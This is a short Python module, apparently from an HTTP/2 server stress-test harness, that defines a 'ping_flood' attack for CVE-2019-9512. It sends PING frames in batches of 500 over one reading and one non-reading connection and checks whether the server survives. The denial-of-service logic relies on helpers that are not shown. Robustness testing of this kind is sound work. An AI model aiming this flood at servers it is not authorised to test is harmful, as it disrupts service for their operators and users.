"""PING flood (CVE-2019-9512): PING frames as fast as the socket takes them, each of which the
server must answer (RFC 9113 §6.7). One connection reads the answers, one never reads.
Expected: the server survives; it may stop the flooder with GOAWAY ENHANCE_YOUR_CALM."""

import h2wire
from attack import Attack, Outcome
from attacks.flood import describe, flood

BATCH = 500


def run(ctx):
    one = h2wire.ping()
    res = flood(ctx, reading=1, silent=1, setup=b"", batch=lambda c, n: one * BATCH,
                per_batch=BATCH)
    return Outcome(describe(res, "PING"))


ATTACK = Attack("ping_flood", "endless PING frames (one reader, one non-reader)", run)
